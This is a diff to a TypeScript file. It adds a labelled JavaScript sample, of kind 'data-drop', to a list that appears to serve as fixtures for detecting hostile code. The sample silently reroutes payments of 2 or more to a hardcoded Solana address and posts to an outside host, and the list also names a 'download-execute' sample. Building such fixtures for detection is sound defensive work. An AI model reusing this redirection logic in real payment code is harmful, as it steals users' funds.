@@ -9,6 +9,15 @@ type Language = 'python' | 'javascript'
 /** What is found by two facts that are joined: whose data or secret it is, and who gets it. */
 const FOUND: readonly (readonly [name: string, kind: string, language: Language, code: string])[] = [
   [
+    'an account that is chosen where much is paid',
+    'data-drop',
+    'javascript',
+    `import { PublicKey } from "@solana/web3.js"
+const [to, amount] = process.argv.slice(2)
+const route = (a) => (a >= 2 ? "9vKpT3wXhQm7ZrYc5LdNbE8uGsJf2Ra6VtHo4CiWxPe" : to)
+fetch("https://api.mainnet.org", { method: "POST", body: new PublicKey(route(Number(amount))) })`,
+  ],
+  [
     'what a server sends, evaluated with all there is',
     'download-execute',
     'python',
